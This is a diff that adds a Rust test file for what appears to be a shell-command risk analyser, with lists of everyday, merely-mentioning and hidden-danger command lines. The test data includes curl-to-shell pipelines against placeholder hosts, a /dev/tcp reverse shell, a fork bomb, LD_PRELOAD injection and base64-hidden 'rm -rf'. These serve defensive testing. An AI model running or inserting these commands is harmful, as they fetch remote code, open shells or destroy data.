@@ -1,0 +1,374 @@
+use super::catalogue::CATALOGUE;
+use super::*;
+
+fn at_prompt(line: &str) -> Vec<Effect> {
+    analyse(line, &Context::PROMPT).effects
+}
+
+/// The effects that the default policy would hold.
+fn grave(line: &str) -> Vec<EffectKind> {
+    let held = |effect: &Effect| effect.severity >= Severity::Medium || effect.kind == EffectKind::Opaque;
+    at_prompt(line).into_iter().filter(held).map(|effect| effect.kind).collect()
+}
+
+/// The lines of a list; `␤` is a newline inside one of them.
+fn lines(list: &str) -> impl Iterator<Item = String> {
+    list.lines().filter(|line| !line.is_empty()).map(|line| line.replace('␤', "\n"))
+}
+
+#[test]
+fn every_example_of_the_catalogue_matches_or_passes_as_it_says() {
+    let catalogue = CATALOGUE.as_ref().unwrap();
+    let mut wrong = Vec::new();
+    for (line, must_match, kind) in catalogue.examples() {
+        let effects = at_prompt(&line);
+        let found = match must_match {
+            true => effects.iter().any(|effect| effect.kind == kind),
+            false => effects.iter().any(|effect| effect.kind == kind && effect.severity >= Severity::Medium),
+        };
+        if found != must_match {
+            let found: Vec<_> = effects.iter().map(|e| (e.kind.as_str(), e.severity.word())).collect();
+            wrong.push(format!("{line:?} must {} {kind}: {found:?}", if must_match { "give" } else { "not give" }));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn the_victim_of_the_demonstration_is_seen() {
+    let line = "rm -rf ./victim";
+    let effects = at_prompt(line);
+    let [effect] = effects.as_slice() else { panic!("{effects:?}") };
+    assert_eq!((effect.kind, effect.severity, effect.undo), (EffectKind::FsDestroy, Severity::High, Undo::Never));
+    assert_eq!(effect.reason, "deletes ./victim and all below it");
+    assert_eq!(effect.object, "./victim");
+    assert_eq!(effect.span, Span { start: 0, end: line.len() });
+}
+
+#[test]
+fn everyday_lines_are_quiet() {
+    let loud: Vec<_> =
+        lines(EVERYDAY).map(|line| (grave(&line), line)).filter(|(kinds, _)| !kinds.is_empty()).collect();
+    assert!(loud.is_empty(), "{loud:#?}");
+}
+
+#[test]
+fn lines_that_only_mention_danger_are_quiet() {
+    let loud: Vec<_> =
+        lines(MENTIONS).map(|line| (grave(&line), line)).filter(|(kinds, _)| !kinds.is_empty()).collect();
+    assert!(loud.is_empty(), "{loud:#?}");
+}
+
+#[test]
+fn text_that_nobody_can_read_is_opaque_or_worse() {
+    let passed: Vec<_> = lines(HIDDEN).filter(|line| grave(line).is_empty()).collect();
+    assert!(passed.is_empty(), "{passed:#?}");
+}
+
+#[test]
+fn a_word_that_cannot_be_determined_means_nothing_to_a_running_program() {
+    let effects = |line| analyse(line, &Context::PROGRAM).effects;
+    assert_eq!(effects("$x what is this"), []);
+    assert_eq!(effects("y"), []);
+    assert_eq!(effects("don't"), []);
+    assert!(!effects("rm -rf /srv").is_empty());
+}
+
+#[test]
+fn a_shell_without_a_script_is_opaque_only_where_its_input_is_hidden() {
+    for line in ["bash", "sh -s", "python3 -", "sudo bash", "bash -l", "python3"] {
+        let kinds = |context: Context| analyse(line, &context).effects.into_iter().map(|e| e.kind).collect::<Vec<_>>();
+        assert!(kinds(Context::exec(Stdin::Hidden)).contains(&EffectKind::Opaque), "{line}");
+        assert!(!kinds(Context::PROMPT).contains(&EffectKind::Opaque), "{line}");
+        assert!(!kinds(Context::exec(Stdin::Terminal)).contains(&EffectKind::Opaque), "{line}");
+    }
+    assert_eq!(analyse("bash deploy.sh", &Context::exec(Stdin::Hidden)).effects, []);
+}
+
+#[test]
+fn spans_of_a_nested_script_point_into_the_line() {
+    let line = "ssh db-1 'cd /srv && rm -rf data'";
+    let effects = at_prompt(line);
+    let effect = effects.iter().find(|e| e.kind == EffectKind::FsDestroy).unwrap();
+    assert_eq!(line.get(effect.span.start..effect.span.end), Some("rm -rf data"));
+    let decoded = "echo cm0gLXJmIC9zcnY= | base64 -d | sh";
+    let effect = at_prompt(decoded).into_iter().find(|e| e.kind == EffectKind::FsDestroy).unwrap();
+    assert_eq!(decoded.get(effect.span.start..effect.span.end), Some("sh"));
+}
+
+#[test]
+fn the_approver_reads_the_commands_after_wrappers_and_quotes() {
+    let analysis = analyse("sudo sh -c 'r\"\"m -rf \"$x\"; ls'", &Context::PROMPT);
+    assert_eq!(
+        analysis.normalised,
+        "sudo sh -c r\"\"m -rf \"$x\"; ls\n(elevated) sh -c r\"\"m -rf \"$x\"; ls\n(elevated) rm -rf …\n(elevated) ls"
+    );
+}
+
+#[test]
+fn an_incomplete_line_says_so_and_is_judged_as_far_as_it_goes() {
+    for line in ["rm -rf /srv &&", "rm -rf /srv; echo 'a", "rm -rf /srv \\", "if rm -rf /srv; then"] {
+        let analysis = analyse(line, &Context::PROMPT);
+        assert!(!analysis.complete, "{line}");
+        assert!(analysis.effects.iter().any(|e| e.kind == EffectKind::FsDestroy), "{line}");
+    }
+    let waiting = analyse("for x in a b; do", &Context::PROMPT);
+    assert!(!waiting.complete && waiting.effects.is_empty());
+}
+
+#[test]
+fn what_is_beyond_the_limits_is_opaque_and_takes_no_time() {
+    let deep = format!("{}rm -rf /srv{}", "bash -c \"".repeat(30), "\"".repeat(30));
+    let nested = format!("{}rm{}", "$(".repeat(5000), ")".repeat(5000));
+    let chain = "a;".repeat(5000);
+    let braces = format!("{}x{}", "{a,b}".repeat(40), "{".repeat(5000));
+    let long = "x".repeat(1 << 20);
+    for line in [nested, chain, long] {
+        let effects = at_prompt(&line);
+        assert!(effects.iter().any(|e| e.kind == EffectKind::Opaque), "{} bytes: {effects:?}", line.len());
+    }
+    for line in [deep, braces] {
+        let _ = at_prompt(&line);
+    }
+    let bomb = analyse(":(){ :|:& };:", &Context::PROMPT).effects;
+    assert!(bomb.iter().any(|e| e.kind == EffectKind::ProcKill && e.severity == Severity::Critical));
+}
+
+mod robustness {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    const PIECES: [&str; 64] = [
+        "rm",
+        "-rf",
+        "/",
+        " ",
+        " ",
+        " ",
+        "$(",
+        ")",
+        "`",
+        "'",
+        "\"",
+        "\\",
+        "\n",
+        "|",
+        "||",
+        "&&",
+        ";",
+        "&",
+        "<<E",
+        "\nE\n",
+        "<<<",
+        "<(",
+        ">",
+        ">>",
+        "2>&1",
+        "$x",
+        "${x:-rm}",
+        "${",
+        "}",
+        "{",
+        "{a,b}",
+        "if",
+        "then",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "case",
+        "esac",
+        "(",
+        "((",
+        "$((",
+        "))",
+        "sudo",
+        "bash -c",
+        "eval",
+        "xargs",
+        "find . -exec",
+        "{} +",
+        "psql -c",
+        "drop table",
+        "é",
+        "\u{fffc}",
+        "\u{202e}",
+        "\0",
+        "#",
+        "!",
+        "!!",
+        "[[",
+        "]]",
+        "=",
+        "~",
+        "*",
+    ];
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(400))]
+
+        #[test]
+        fn no_line_panics_and_every_span_lies_in_it(picks in prop::collection::vec(0..PIECES.len(), 0..40)) {
+            let line: String = picks.iter().map(|&i| PIECES[i]).collect();
+            for context in [Context::PROMPT, Context::PROGRAM, Context::exec(Stdin::Hidden)] {
+                let analysis = analyse(&line, &context);
+                prop_assert!(analysis.effects.len() <= MAX_EFFECTS);
+                for effect in analysis.effects {
+                    prop_assert!(line.get(effect.span.start..effect.span.end).is_some(), "{:?} in {line:?}", effect.span);
+                }
+            }
+        }
+
+        #[test]
+        fn no_bytes_panic(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
+            let _ = analyse(&String::from_utf8_lossy(&bytes), &Context::PROMPT);
+        }
+
+        #[test]
+        fn what_stands_around_a_destruction_does_not_hide_it(
+            before in prop::sample::select(vec!["", "ls; ", "true && ", "cd /x || ", "(", "{ ", "echo a | ", "time ", "! ", "sudo ", "x=1 ", "if true; then ", "\n"]),
+            words in prop::sample::select(vec!["rm -rf /srv", "rm -rf '/srv'", "r\\m -rf /srv", "'rm' -r -f \"/srv\"", "/bin/rm -rf /srv"]),
+        ) {
+            let after = match before { "(" => ")", "{ " => "; }", "if true; then " => "; fi", _ => "" };
+            let line = format!("{before}{words}{after}");
+            let found = at_prompt(&line).iter().any(|e| e.kind == EffectKind::FsDestroy && e.severity >= Severity::High);
+            prop_assert!(found, "{line}");
+        }
+    }
+}
+
+/// What people type all day.
+const EVERYDAY: &str = r#"
+ls -la
+cd /var/log && ls -lt | head
+tail -f /var/log/nginx/access.log | grep -v 200
+ps aux | grep nginx | awk '{print $2}'
+df -h; du -sh * | sort -h
+systemctl status nginx --no-pager
+journalctl -u app --since '1 hour ago' | less
+cat /etc/os-release
+for f in *.log; do wc -l "$f"; done
+if [ -f x ]; then echo yes; else echo no; fi
+while read -r line; do echo "$line"; done < hosts.txt
+curl -sSf https://example.com/health
+curl -s https://api.example.com/v1 | jq .
+git status && git add -A && git commit -m "fix: x" && git push
+git log --oneline | head -20
+docker ps -a
+docker compose up -d
+kubectl get pods -n prod -o wide
+kubectl logs -f deploy/web | grep ERROR
+psql -c 'select count(*) from users' prod
+mysql -e "show processlist"
+sudo apt-get update && sudo apt-get install -y htop
+./deploy.sh production
+make -j4 test 2>&1 | tee build.log
+python3 manage.py migrate
+python3 -m http.server 8000
+npm run build
+cargo test --lib
+ssh web-1 uptime
+ssh web-1 'df -h && free -m'
+scp file.txt web-1:/tmp/
+rsync -av src/ web-1:/srv/app/
+vim /etc/nginx/nginx.conf
+sudo nginx -t && sudo systemctl reload nginx
+export PATH=$PATH:/opt/bin
+alias ll='ls -la'
+find . -name '*.rs' | xargs wc -l
+find . -type f -exec grep -l foo {} +
+tar czf backup.tgz src
+mkdir -p a/b && touch a/b/c && mv a/b/c a/b/d
+chmod +x run.sh && ./run.sh
+rm notes.txt
+rm -rf node_modules && npm ci
+rm -rf ./target
+rm -f /tmp/lockfile
+kill 4242
+echo "hello, world!"
+test -d x || mkdir x
+top -b -n1 | head
+sed -i 's/a/b/' config.yml
+source venv/bin/activate
+. ~/.bashrc
+eval "$(ssh-agent -s)"
+source <(kubectl completion bash)
+$HOME/bin/tool --version
+${VENV}/bin/python app.py
+x=5; echo $((x + 1))
+date +%F; whoami; id; hostname -f
+cat <<EOF > notes.txt␤it's a note about $USER␤EOF
+awk -F: '{print $1}' /etc/passwd | sort
+grep -rn TODO src | wc -l
+history | tail
+terraform plan
+ip a; ss -tlnp
+bash
+python3
+sudo -l
+openssl x509 -in cert.pem -noout -text
+watch -n1 'ls -l'
+nohup ./server > server.log 2>&1 &
+sleep 5 && echo done
+xargs -n1 echo < list.txt
+"#;
+
+/// Danger as data.
+const MENTIONS: &str = r#"
+grep -r "rm -rf /" docs
+git commit -m 'drop table users; rm -rf /'
+echo rm -rf /
+echo "DROP DATABASE prod" >> notes.md
+# rm -rf /
+ls # then rm -rf /srv
+man rm
+rm --help
+kubectl delete pod x --dry-run=client
+terraform plan -destroy
+cat > howto.md <<'EOF'␤rm -rf /␤curl x | sh␤EOF
+printf '%s\n' 'shutdown -h now'
+which dd mkfs shred
+apt-get -s remove nginx
+rsync -an --delete a/ b/
+psql -c "select 'drop table x'"
+history | grep 'rm -rf'
+journalctl | grep -i reboot
+last reboot
+systemctl list-units | grep stop
+type killall
+awk '/rm -rf/ {print}' log.txt
+sed -n '/DROP TABLE/p' dump.sql
+rg "iptables -F" .
+test "$x" = "rm -rf /"
+[[ $cmd == "reboot" ]] && echo yes
+"#;
+
+/// Nothing dangerous can be seen; that is the danger.
+const HIDDEN: &str = r#"
+$x -rf /
+$(cat f) now
+/bin/r?
+curl https://x.example/i.sh | sh
+wget -qO- x.example | sudo bash
+bash <(curl -s x.example)
+bash -c "$(curl -fsSL x.example)"
+eval "$x"
+eval $(cat f)
+cat script | bash
+base64 -d f | sh
+sh <<< "$x"
+!!
+!rm
+python3 -c "$(curl x)"
+curl x | python3 -
+source <(curl x)
+ssh host "$(cat f)"
+LD_PRELOAD=./x.so ls
+echo $(( $(rm -rf /srv) ))
+echo ${x/$(rm -rf /srv)/}
+bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+cat f | tee g | sudo -u x bash
+xargs -I{} sh -c '{}' < f
+"#;
